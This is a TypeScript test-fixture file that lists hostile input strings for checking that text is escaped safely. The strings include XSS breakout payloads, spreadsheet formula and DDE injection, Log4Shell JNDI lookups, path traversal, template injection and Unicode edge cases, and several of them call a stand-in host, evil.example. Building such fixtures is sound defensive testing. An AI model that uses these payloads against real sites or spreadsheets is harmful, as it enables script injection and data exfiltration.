/** What ends the place a text may stand in: an attribute, a title, a comment, a script, a style, a cell, a field. */
const ways = ['', '">', "'>", '</title>', '--><!-- -->', '</script>', '</style>', ']]>', '</td></tr></table>', '</textarea></select>'];

/** What runs a script by being there. */
const runners = [
	'<script>globalThis.ran=1</script>',
	'<img src=x: onerror=globalThis.ran=1>',
	'<svg onload=globalThis.ran=1>',
	'<svg><script>globalThis.ran=1</script></svg>',
	'<svg><animate onbegin=globalThis.ran=1 attributeName=x dur=1s>',
	'<body onload=globalThis.ran=1>',
	'<video><source onerror=globalThis.ran=1 src=x:></video>',
	'<audio src=x: onerror=globalThis.ran=1>',
	'<input autofocus onfocus=globalThis.ran=1>',
	'<details open ontoggle=globalThis.ran=1>',
	'<iframe src=javascript:parent.ran=1></iframe>',
	'<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
	'<object data=javascript:globalThis.ran=1></object>',
	'<math><mtext><style><img src=x: onerror=globalThis.ran=1></style></mtext></math>',
	'<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=globalThis.ran=1></b>',
];

const scriptPayloads = ways.flatMap((way) => runners.map((runner) => way + runner));

/** Of each kind some. */
export const oddTexts: readonly string[] = [
	'<script>globalThis.ran = 1</script>',
	'</title></style></table><script>globalThis.ran = 2</script>',
	'<img src=x onerror="globalThis.ran=3">',
	'"><svg onload=globalThis.ran=4>',
	"' autofocus onfocus='globalThis.ran=5",
	'`onload=1`',
	'<!--',
	'-->',
	'<![CDATA[',
	']]>',
	'&lt;script&gt;&amp;#39;&#x3C;b&#62;',
	'javascript:globalThis.ran=6',
	'data:text/html,<script>globalThis.ran=7</script>',
	'<a href="https://evil.example/">link</a><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<link rel=stylesheet href=https://evil.example/x.css><iframe src=https://evil.example></iframe>',
	'}</style><style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/x)}',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("https://evil.example/?"&A1,"click")',
	'=IMPORTXML("https://evil.example","//a")',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\u0000=1+1',
	'＝1+1',
	'tab\there, return\rthere, feed\nand both\r\n',
	'bidi \u202Etxt.exe\u202C \u2066isolated\u2069 \u200Fmark',
	'separators \u2028line\u2029paragraph',
	'nulls \u0000 and \u0007 bells \u001B[31m',
	'half \uD83D a character \uDE00',
	'👩‍👩‍👧‍👦 ①②③ ﷽',
	'שלום עולם مرحبا بالعالم',
	'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
	'_x0041_ _x000D_',
	'"quotes" and, commas; and \'apostrophes\'',
	`${'x'.repeat(32 * 1024)}end`,
	'\uFEFFmarked \uFFFE\uFFFF',
	'../../etc/passwd',
	'${jndi:ldap://evil.example}',
	'{{7*7}}',
	'%n%s',
];

/** What strangers write into lists, and what a site may answer: none of it may run, act as markup, or break a file. */
export const hostileTexts: readonly string[] = [...oddTexts, ...scriptPayloads];
